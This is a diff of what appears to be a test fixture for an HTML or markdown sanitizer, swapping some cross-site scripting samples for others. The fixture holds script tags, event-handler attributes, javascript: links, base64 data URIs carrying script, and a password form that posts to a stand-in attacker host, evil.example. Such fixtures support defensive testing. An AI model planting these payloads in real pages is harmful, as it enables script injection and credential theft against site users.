@@ -18,18 +18,15 @@ Hello.
 
 <script>alert('script tag')</script>
 
-<img src="x.png" onerror="alert('onerror')">
+<p onclick="alert('onclick')">Click me.</p>
 
 [click me](javascript:alert('javascript link'))
 
 <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
 
-![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
-
-<div><p>Nested <a href="javascript:alert('nested')"><img src="y.png" onload="alert('nested')"></a> markup</p></div>
+<div><p>Nested <a href="javascript:alert('nested')" onmouseover="alert('nested')"><b onload="alert('nested')">bold</b></a> markup</p></div>
 
 <style>body { display: none }</style>
-<iframe src="https://evil.example/"></iframe>
 <form action="https://evil.example/"><input name="password"></form>
 `;
 
